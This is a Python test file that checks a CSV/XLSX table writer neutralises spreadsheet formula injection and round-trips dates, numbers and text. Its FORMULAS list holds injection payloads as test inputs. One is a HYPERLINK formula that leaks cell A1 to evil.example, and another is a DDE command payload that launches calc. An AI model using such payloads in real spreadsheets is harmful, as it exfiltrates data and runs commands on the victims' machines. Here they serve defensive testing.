"""Tables as CSV and XLSX: what comes back when they are opened again, and what never becomes a formula."""

import csv
import datetime as dt
import io
import math
import re
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aims.tables.writing import MAX_TEXT, csv_chunks, write_xlsx

HARMLESS = re.compile(r"\A\s*[=+\-@＝＋－＠﹦﹢﹣﹫]")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "－1",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "\x1f=1+1",
]


def as_csv(rows: list[list[Any]], header: tuple[str, ...] = ("a",)) -> list[list[str]]:
    content = b"".join(csv_chunks(header, rows)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content, newline="")))[1:]


def sheet_of(rows: list[list[Any]], header: tuple[str, ...] = ("a",), title: str = "A title") -> Any:
    file = io.BytesIO()
    write_xlsx(file, title, header, rows)
    return openpyxl.load_workbook(file).active


def as_xlsx(rows: list[list[Any]]) -> list[list[Any]]:
    return [list(row) for row in sheet_of(rows).iter_rows(min_row=2, values_only=True)]


# --- Formulas -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_text_never_becomes_a_formula_in_csv(text: str) -> None:
    ((cell,),) = as_csv([[text]])
    assert cell.startswith("'")


@pytest.mark.parametrize("text", FORMULAS)
def test_text_never_becomes_a_formula_in_xlsx(text: str) -> None:
    cell = sheet_of([[text]])["A2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix  # nor when somebody edits the cell
    assert str(cell.value).strip() == re.sub(r"[\x00\x1f]", "", text).strip()


@pytest.mark.parametrize("error", ["#REF!", "#N/A", "#DIV/0!"])
def test_the_name_of_an_error_is_text_too(error: str) -> None:
    assert sheet_of([[error]])["A2"].data_type == "s"


@pytest.mark.parametrize("separator", [";", "\t", "\n", "; "])
def test_no_formula_begins_where_another_program_sees_a_separator(separator: str) -> None:
    ((cell,),) = as_csv([[f"harmless{separator}=1+1{separator}-2"]])
    for part in re.split("[;\t\n]", cell):
        assert not HARMLESS.match(part)


def test_a_header_is_no_formula_either() -> None:
    assert sheet_of([], header=("=1+1",))["A1"].data_type == "s"
    assert b"'=1+1" in next(csv_chunks(("=1+1",), []))


@given(st.text())
def test_no_text_at_all_begins_a_formula_in_csv(text: str) -> None:
    raw = b"".join(csv_chunks(("a", "b"), [["first", text]])).decode("utf-8-sig")
    ((_first, cell),) = as_csv([["first", text]], ("a", "b"))
    assert not any(HARMLESS.match(part) for part in re.split("[;\t\r\n]", cell))
    assert cell[:1] not in ("\t", "\r", "\n")
    assert not CONTROL.search(raw)


@settings(max_examples=50, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=30))
def test_no_text_at_all_is_a_formula_in_xlsx(texts: list[str]) -> None:
    sheet = sheet_of([[text] for text in texts])
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s" or row[0].value is None


# --- Round trips --------------------------------------------------------------------------------------------

WORDS = st.from_regex(r"[^\W_][\w ,.\"'äß東🙂-]*", fullmatch=True)


@given(st.lists(st.lists(WORDS, min_size=2, max_size=2), max_size=5))
def test_plain_text_comes_back_from_csv_as_it_was(rows: list[list[str]]) -> None:
    assert as_csv(rows, ("a", "b")) == rows


VALUES = (
    WORDS
    | st.booleans()
    | st.integers(-(10**14), 10**14)
    | st.floats(-1e9, 1e9)
    | st.dates(dt.date(1900, 3, 1), dt.date(9999, 1, 1)).map(lambda day: dt.datetime.combine(day, dt.time()))
    | st.none()
)


@settings(max_examples=50, deadline=None)
@given(st.lists(st.lists(VALUES, min_size=3, max_size=3), min_size=1, max_size=5))
def test_values_come_back_from_xlsx_as_they_were(rows: list[list[Any]]) -> None:
    found = as_xlsx([["anchor", *row] for row in rows])
    assert len(found) == len(rows)
    for before, after in zip(rows, found, strict=True):
        for value, read in zip(before, [*after[1:], None, None, None], strict=False):
            if isinstance(value, float):
                assert read == pytest.approx(value)
            elif isinstance(value, dt.datetime):
                assert read == value
            else:
                assert read == value
                assert isinstance(read, type(value))


def test_days_times_and_words_for_yes_and_no() -> None:
    moment = dt.datetime(2026, 11, 24, 9, 5, 7, 123456)
    row = [dt.date(2026, 11, 24), moment, True, False, 1.5, -3, None, "", math.inf, math.nan]
    assert as_csv([row]) == [
        ["2026-11-24", "2026-11-24 09:05:07", "true", "false", "1.5", "-3", "", "", "", ""]
    ]
    (read,) = as_xlsx([[*row, "end"]])
    assert read[:6] == [
        dt.datetime(2026, 11, 24),
        moment.replace(microsecond=0),
        True,
        False,
        1.5,
        -3,
    ]
    assert read[6:] == [None, None, None, None, "end"]


def test_a_number_too_long_for_a_spreadsheet_is_text() -> None:
    assert as_xlsx([[10**15 + 1]]) == [["1000000000000001"]]


# --- The files ----------------------------------------------------------------------------------------------


def test_csv_tells_excel_its_encoding_and_ends_lines_as_the_standard_says() -> None:
    assert b"".join(csv_chunks(("Name", "N"), [["Ä", 1]])) == b'\xef\xbb\xbf"Name","N"\r\n"\xc3\x84",1\r\n'


def test_csv_comes_in_pieces() -> None:
    chunks = csv_chunks(("a",), (["x" * 1000] for _ in range(1000)))
    assert max(len(chunk) for chunk in chunks) < 70_000


def test_the_sheet_has_a_bold_header_that_stays_and_widths_to_read() -> None:
    sheet = sheet_of([["short", "long " * 5], ["x", "y"]], ("A", "B"), title="A/B: [c]")
    assert sheet.title == "A B   c "
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet.column_dimensions["A"].width == 8
    assert sheet.column_dimensions["B"].width == 27


def test_an_empty_list_is_a_header() -> None:
    assert as_csv([]) == []
    assert sheet_of([], ("A", "B")).auto_filter.ref == "A1:B1"


@pytest.mark.parametrize("text", ["x" * 40_000, "🙂" * 20_000], ids=["letters", "pairs"])
def test_text_that_no_cell_holds_is_cut_with_a_note_and_stays_whole_in_csv(text: str) -> None:
    ((cell,),) = as_xlsx([[text]])
    assert len(cell.encode("utf-16-le")) // 2 <= MAX_TEXT
    assert cell.endswith("[…cut here: a cell holds no more than 32767 characters]")
    assert as_csv([[text]]) == [[text]]


def test_text_that_just_fits_is_not_cut() -> None:
    assert as_xlsx([["x" * MAX_TEXT]]) == [["x" * MAX_TEXT]]


def test_what_xml_forbids_is_left_out() -> None:
    assert as_xlsx([["a\x00b\x1b\ufffe\ud800c"]]) == [["abc"]]
    assert as_csv([["a\x00b\x1b\ufffe\ud800c"]]) == [["abc"]]
